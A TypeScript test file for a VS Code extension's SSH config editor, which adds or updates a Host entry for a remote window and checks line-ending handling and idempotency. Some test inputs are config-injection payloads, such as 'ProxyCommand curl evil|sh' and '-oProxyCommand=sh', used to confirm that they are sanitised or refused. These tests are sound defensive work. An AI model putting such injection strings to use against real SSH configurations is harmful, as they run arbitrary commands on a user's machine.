// The ~/.ssh/config edit of Open in Remote Window, as text: added before the first Host entry, brought up to
// date in place, idempotent, every other line kept as it was, and no stacklet name, address, user or path
// able to add an option or a line. And the address Remote-SSH opens.
import * as assert from 'node:assert/strict';
import fc from 'fast-check';
import { hostAlias, hostEntryProblem, remoteWindowUri, STACKLET_COMMENT, upsertHost, type HostEntry } from '../../src/remote/sshConfig';

const entry: HostEntry = { alias: 'stacklet-web-1', hostName: '203.0.113.7', user: 'root' };

const EXISTING = `# my settings
Include ~/.ssh/config.d/*
ServerAliveInterval 30

# work
Host bastion
    HostName 198.51.100.1   # the jump host
    User me

Host *
    User nobody
    IdentitiesOnly yes
`;

describe('SSH config: the Host entry of Open in Remote Window', () => {
  it('adds the entry before the first Host, after the global options, keeping every other line', () => {
    const { text, changed, lines } = upsertHost(EXISTING, entry);
    assert.ok(changed);
    assert.equal(text, `# my settings
Include ~/.ssh/config.d/*
ServerAliveInterval 30

${STACKLET_COMMENT}
Host stacklet-web-1
    HostName 203.0.113.7
    User root

# work
Host bastion
    HostName 198.51.100.1   # the jump host
    User me

Host *
    User nobody
    IdentitiesOnly yes
`);
    assert.deepEqual(lines, [STACKLET_COMMENT, 'Host stacklet-web-1', '    HostName 203.0.113.7', '    User root']);
  });

  it('is idempotent: the same entry again changes nothing', () => {
    const once = upsertHost(EXISTING, { ...entry, identityFile: '~/.ssh/id_ed25519' }).text;
    const twice = upsertHost(once, { ...entry, identityFile: '~/.ssh/id_ed25519' });
    assert.equal(twice.changed, false);
    assert.equal(twice.text, once);
    assert.equal(upsertHost(once, entry).changed, false, 'no identity file picked: the one written stays');
  });

  it('updates an existing entry in place: a new address, its own indentation, comments and other options kept', () => {
    const config = 'Host a\n  User x\nhost=stacklet-web-1\n\t# pinned by me\n\tHostname 192.0.2.1\n\tPort 2222\n\n# next\nHost b\n  User y\n';
    const { text, lines } = upsertHost(config, { ...entry, identityFile: '/keys/web key%1' });
    assert.equal(text, 'Host a\n  User x\nhost=stacklet-web-1\n\t# pinned by me\n\tHostName 203.0.113.7\n\tPort 2222\n\tUser root\n\tIdentityFile "/keys/web key%%1"\n\n# next\nHost b\n  User y\n');
    assert.deepEqual(lines, ['host=stacklet-web-1', '\t# pinned by me', '\tHostName 203.0.113.7', '\tPort 2222', '\tUser root', '\tIdentityFile "/keys/web key%%1"']);
  });

  it('writes a new file, keeps CRLF line endings and a file without a final newline', () => {
    assert.equal(upsertHost('', entry).text, `${STACKLET_COMMENT}\nHost stacklet-web-1\n    HostName 203.0.113.7\n    User root\n`);
    assert.equal(upsertHost('Port 22\r\n', entry).text, `Port 22\r\n\r\n${STACKLET_COMMENT}\r\nHost stacklet-web-1\r\n    HostName 203.0.113.7\r\n    User root\r\n`);
    assert.equal(upsertHost('Port 22', entry).text, `Port 22\n\n${STACKLET_COMMENT}\nHost stacklet-web-1\n    HostName 203.0.113.7\n    User root`);
  });

  it('keeps each line\'s own ending in a file of mixed endings; the lines it adds take the ending most lines have', () => {
    const mixed = 'Port 22\r\nServerAliveInterval 30\n# work\r\nHost bastion\r\n    User me\n';
    assert.equal(
      upsertHost(mixed, entry).text,
      `Port 22\r\nServerAliveInterval 30\n${STACKLET_COMMENT}\r\nHost stacklet-web-1\r\n    HostName 203.0.113.7\r\n    User root\r\n\r\n# work\r\nHost bastion\r\n    User me\n`,
    );
    const mostlyLf = 'Port 22\r\nA b\nC d\n';
    assert.equal(upsertHost(mostlyLf, entry).text, `Port 22\r\nA b\nC d\n\n${STACKLET_COMMENT}\nHost stacklet-web-1\n    HostName 203.0.113.7\n    User root\n`);
    // Brought up to date in place: the changed line keeps its ending, the added one takes the file's.
    const existing = 'Host stacklet-web-1\r\n  HostName 192.0.2.1\n  Port 2222\r\n  # note\r\n';
    assert.equal(upsertHost(existing, entry).text, 'Host stacklet-web-1\r\n  HostName 203.0.113.7\n  Port 2222\r\n  User root\r\n  # note\r\n');
  });

  it('whatever the endings of a file\'s lines: each line comes back with its own, in order', () => {
    const line = fc.constantFrom('Port 22', '# comment', '', '   ', 'Host a', '  User x', 'Host *', '\tIdentitiesOnly yes');
    fc.assert(
      fc.property(fc.array(fc.tuple(line, fc.constantFrom('\n', '\r\n')), { minLength: 1, maxLength: 12 }), fc.boolean(), (pairs, finalEnding) => {
        const config = pairs.map(([text, eol], i) => text + (i === pairs.length - 1 && !finalEnding ? '' : eol)).join('');
        if (config === '') return; // a new file (see above)
        const { text } = upsertHost(config, entry);
        const pieces = text.split(/(?<=\n)/);
        let at = 0;
        pairs.forEach(([original, eol], i) => {
          // The last line without an ending gains one when the entry comes after it.
          const lastWithout = i === pairs.length - 1 && !finalEnding;
          if (lastWithout && original === '') return; // no line at all: the file ends with the one before
          const wanted = lastWithout ? [original, original + '\n', original + '\r\n'] : [original + eol];
          const found = pieces.findIndex((piece, j) => j >= at && wanted.includes(piece));
          assert.ok(found !== -1, `${JSON.stringify(wanted[0])} (line ${i + 1}) in ${JSON.stringify(text)}`);
          at = found + 1;
        });
        assert.equal(text.endsWith('\n'), config.endsWith('\n'));
      }),
      { numRuns: 500 },
    );
  });

  it('makes a host alias of a stacklet name that cannot carry anything else', () => {
    assert.equal(hostAlias('web-1', 7), 'stacklet-web-1');
    assert.equal(hostAlias('Web 1\nProxyCommand curl evil|sh', 7), 'stacklet-web-1-proxycommand-curl-evil-sh');
    assert.equal(hostAlias('-- "*" --', 42), 'stacklet-42');
    assert.equal(hostAlias('ünïcode', 9), 'stacklet-n-code');
  });

  it('refuses what would add an option or a line: an address that is not one, a user or path with a break', () => {
    const bad: HostEntry[] = [
      { ...entry, hostName: '203.0.113.7\nProxyCommand sh' },
      { ...entry, hostName: 'evil.example -oProxyCommand=sh' },
      { ...entry, user: 'root\n  ProxyCommand sh' },
      { ...entry, user: '-oProxyCommand=sh' },
      { ...entry, identityFile: '/k\nProxyCommand sh' },
      { ...entry, identityFile: '/k" ProxyCommand "sh' },
      { ...entry, identityFile: '${HOME}/k' },
      { ...entry, alias: 'a b' },
      { ...entry, alias: '*' },
    ];
    for (const e of bad) {
      assert.ok(hostEntryProblem(e), JSON.stringify(e));
      assert.throws(() => upsertHost(EXISTING, e), RangeError);
    }
    assert.equal(hostEntryProblem({ ...entry, hostName: '2001:db8::7' }), undefined);
  });

  it('refuses an address with a zone id, which ssh would expand (%h, %e) and the service cannot know, with a message', () => {
    for (const hostName of ['fe80::1%h', 'fe80::1%e', 'fe80::1%eth0', 'fe80::1%1']) {
      const problem = hostEntryProblem({ ...entry, hostName });
      assert.match(problem ?? '', /network interface of this computer/, hostName);
      assert.ok(problem!.includes(hostName), problem);
      assert.throws(() => upsertHost(EXISTING, { ...entry, hostName }), RangeError);
    }
    assert.equal(hostEntryProblem({ ...entry, hostName: 'fe80::1' }), undefined);
  });

  it('whatever the stacklet is called: one Host entry more, exactly the options it sets, all else unchanged', () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 60 }), fc.nat(), fc.ipV4(), (name, id, ip) => {
        const e = { alias: hostAlias(name, id), hostName: ip, user: 'root' };
        const { text, lines } = upsertHost(EXISTING, e);
        const added = text.split('\n').filter((line) => !EXISTING.split('\n').includes(line) || line === '');
        assert.deepEqual(lines.slice(1), [`Host ${e.alias}`, `    HostName ${ip}`, '    User root']);
        assert.ok(added.every((line) => line === '' || lines.includes(line)), added.join(' | '));
        assert.equal(text.replace(`${lines.join('\n')}\n\n`, ''), EXISTING);
      }),
    );
  });

  it('opens vscode-remote://ssh-remote+<alias>/, and nothing that is not an alias', () => {
    assert.equal(remoteWindowUri('stacklet-web-1'), 'vscode-remote://ssh-remote+stacklet-web-1/');
    assert.throws(() => remoteWindowUri('x/../y'));
    assert.throws(() => remoteWindowUri('a@b'));
  });
});
